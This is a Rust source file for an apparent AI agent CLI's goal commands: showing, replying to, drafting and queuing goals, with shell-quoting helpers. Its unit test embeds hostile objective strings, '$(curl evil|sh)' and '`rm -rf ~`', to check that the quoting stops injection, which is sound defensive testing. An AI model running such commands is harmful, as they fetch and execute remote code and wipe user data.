//! `waymark goal …`: the goal, its timeline, and replying to a blocked goal.

use crate::follow::{DEFAULT_WAIT_LIMIT, drive, print_events, submit_without_running};
use crate::limits::now_ms;
use crate::term::outln;
use clap::Subcommand;
use std::process::ExitCode;
use waymark_protocol::Op;
use waymark_runtime::{Runtime, SessionSpec};

#[derive(Subcommand)]
pub(crate) enum GoalCommand {
    /// The goal, its status, reason, actor and budget report (`--json`: the goal view the
    /// desktop shows, with its timeline).
    Show {
        #[arg(long)]
        session: String,
        #[arg(long)]
        json: bool,
    },
    /// The goal events of the session's log, one JSON object per line.
    Events {
        #[arg(long)]
        session: String,
    },
    /// Answer a goal the agent reported blocked: the text goes to the agent as your message
    /// and the goal carries on (the session then runs, as with `answer`).
    Reply {
        #[arg(long)]
        session: String,
        #[arg(long)]
        text: String,
        /// Only record the reply; do not run the session.
        #[arg(long)]
        no_run: bool,
        #[arg(long)]
        json: bool,
    },
    /// Draft a goal from rough words (one model call): an objective, completion criteria and
    /// a suggested budget, printed for you to edit. Nothing is set.
    Draft {
        #[arg(long)]
        session: String,
        text: String,
        #[arg(long)]
        json: bool,
    },
    /// The goals queued to follow the session's goal (G-46).
    Queue {
        #[command(subcommand)]
        action: QueueAction,
    },
}

/// What `waymark goal queue` does. Queued goals are named by their place in line (1 first),
/// as `list` shows them.
#[derive(Subcommand)]
pub(crate) enum QueueAction {
    /// The queue in line order (`--json`: the queued goals with their ids and budgets).
    List {
        #[arg(long)]
        session: String,
        #[arg(long)]
        json: bool,
    },
    /// Queue a goal: the objective, optionally followed by budgets as in `/goal`
    /// (`"Write the release notes" tokens=20K time=1h`). With no unfinished goal it starts
    /// at once (run the session with `waymark exec --session …`).
    Add {
        #[arg(long)]
        session: String,
        text: String,
    },
    /// Take the goal at place `place` out of the queue.
    Remove {
        #[arg(long)]
        session: String,
        place: usize,
    },
    /// Move the goal at place `from` to place `to`.
    Move {
        #[arg(long)]
        session: String,
        from: usize,
        to: usize,
    },
}

pub(crate) async fn goal_command(
    runtime: &Runtime,
    command: GoalCommand,
) -> anyhow::Result<ExitCode> {
    match command {
        GoalCommand::Show { session, json } => {
            if json {
                crate::term::json(&runtime.goal_view(&session)?, true)?;
                return Ok(ExitCode::SUCCESS);
            }
            let goal = runtime.goal(&session)?;
            let Some(g) = goal else {
                outln!("no goal is set");
                return Ok(ExitCode::SUCCESS);
            };
            outln!("{}", waymark_runtime::goal::describe(&g, now_ms()));
        }
        GoalCommand::Events { session } => {
            print_events(runtime, &session, 0, |e| {
                e.kind.type_name().starts_with("goal.")
            })?;
        }
        GoalCommand::Reply {
            session,
            text,
            no_run,
            json,
        } => {
            let op = Op::Goal {
                op: waymark_protocol::GoalOp::Reply { text },
            };
            if no_run {
                submit_without_running(runtime, &session, op).await?;
                return Ok(ExitCode::SUCCESS);
            }
            let handle = runtime.open_session(&session, SessionSpec::default())?;
            return drive(runtime, handle, Some(op), json, DEFAULT_WAIT_LIMIT).await;
        }
        GoalCommand::Queue { action } => return queue_command(runtime, action).await,
        GoalCommand::Draft {
            session,
            text,
            json,
        } => {
            let handle = crate::follow::open_held(runtime, &session)?;
            let drafted = waymark_runtime::goal::draft::draft(&handle.api(), &text).await;
            handle.shutdown().await?;
            let d = drafted?;
            if json {
                crate::term::json(&d, true)?;
                return Ok(ExitCode::SUCCESS);
            }
            outln!("Objective: {}", d.objective);
            if !d.criteria.is_empty() {
                outln!("Done when:");
                for c in &d.criteria {
                    outln!("  - {c}");
                }
            }
            let budget = draft_budget(&d);
            outln!(
                "Budget: {}{}",
                if budget.is_empty() {
                    "none suggested"
                } else {
                    &budget
                },
                if d.reasoning.is_empty() {
                    String::new()
                } else {
                    format!(" — {}", d.reasoning)
                }
            );
            outln!("Nothing is set. To set it as it is (edit first as you like):");
            outln!(
                "  waymark exec --session {} {}",
                shell_quote(&session),
                shell_quote(&set_line(&d.objective, &budget))
            );
        }
    }
    Ok(ExitCode::SUCCESS)
}

async fn queue_command(runtime: &Runtime, action: QueueAction) -> anyhow::Result<ExitCode> {
    use waymark_protocol::GoalOp;
    // A place in line as the list shows it, to the queued goal's id.
    let id_at = |session: &str, place: usize| -> anyhow::Result<i64> {
        let queue = runtime.goal_queue(session)?;
        place
            .checked_sub(1)
            .and_then(|i| queue.get(i))
            .map(|q| q.id)
            .ok_or_else(|| match queue.len() {
                0 => anyhow::anyhow!("the goal queue is empty"),
                n => anyhow::anyhow!(
                    "there is no place {place} in the queue: it holds {n} (1 to {n})"
                ),
            })
    };
    let (session, op) = match action {
        QueueAction::List { session, json } => {
            let queue = runtime.goal_queue(&session)?;
            if json {
                crate::term::json(&queue, true)?;
            } else if queue.is_empty() {
                outln!("the goal queue is empty");
            } else {
                for (i, q) in queue.iter().enumerate() {
                    outln!("{}. {}{}", i + 1, q.objective, budget_words(q));
                }
            }
            return Ok(ExitCode::SUCCESS);
        }
        QueueAction::Add { session, text } => {
            let (objective, budget) =
                match waymark_runtime::goal::parse_command(&format!("next {text}")) {
                    Ok(GoalOp::Queue { objective, budget }) => (objective, budget),
                    Ok(_) => return Err(anyhow::anyhow!("give the objective to queue")),
                    Err(e) => return Err(anyhow::anyhow!("{e}")),
                };
            (session, GoalOp::Queue { objective, budget })
        }
        QueueAction::Remove { session, place } => {
            let id = id_at(&session, place)?;
            (session, GoalOp::Unqueue { id })
        }
        QueueAction::Move { session, from, to } => {
            let id = id_at(&session, from)?;
            let to = u32::try_from(to.max(1) - 1).unwrap_or(u32::MAX);
            (session, GoalOp::MoveQueued { id, to })
        }
    };
    let said =
        crate::follow::submit_without_running_for(runtime, &session, Op::Goal { op }).await?;
    outln!("{said}");
    Ok(ExitCode::SUCCESS)
}

/// The `/goal` line that sets a draft: the objective in double quotes (any of its own turned
/// to single ones, which the grammar reads as text), then the budget.
fn set_line(objective: &str, budget: &str) -> String {
    format!("/goal \"{}\" {budget}", objective.replace('"', "'"))
        .trim_end()
        .to_string()
}

/// `text` as one shell word, single-quoted: nothing in it is expanded when pasted.
fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A draft's suggested budget as `/goal` budget text.
fn draft_budget(d: &waymark_protocol::GoalDraft) -> String {
    let mut parts = Vec::new();
    if let Some(t) = d.tokens {
        parts.push(format!("tokens={t}"));
    }
    if let Some(t) = d.turns {
        parts.push(format!("turns={t}"));
    }
    if let Some(s) = d.seconds {
        parts.push(format!("time={s}s"));
    }
    parts.join(" ")
}

/// A queued goal's budgets in words (empty when it has none of its own).
fn budget_words(q: &waymark_protocol::QueuedGoal) -> String {
    let mut parts = Vec::new();
    if let Some(t) = q.tokens {
        parts.push(format!("tokens={t}"));
    }
    if let Some(t) = q.turns {
        parts.push(format!("turns={t}"));
    }
    if let Some(s) = q.seconds {
        parts.push(format!("time={s}s"));
    }
    if let Some(c) = q.cost_micros {
        parts.push(format!("cost=${:.2}", c as f64 / 1e6));
    }
    if parts.is_empty() {
        String::new()
    } else {
        format!("  ({})", parts.join(" "))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A hostile draft's objective pasted as printed runs nothing: the line is one quoted
    /// word for the shell, and the objective stays one quoted objective for `/goal`.
    #[test]
    fn the_printed_set_line_is_safe_to_paste() {
        for objective in [
            r#"Fix the "$(curl evil|sh)" build"#,
            "it's `rm -rf ~` time; $(id) 'x'",
        ] {
            let line = set_line(objective, "turns=3");
            let quoted = shell_quote(&line);
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf %s {quoted}"))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), line, "{quoted}");
            let op =
                waymark_runtime::goal::parse_command(line.trim_start_matches("/goal ")).unwrap();
            assert!(
                matches!(&op, waymark_protocol::GoalOp::Set { objective: o, .. } if o == &objective.replace('"', "'")),
                "{op:?}"
            );
        }
    }
}
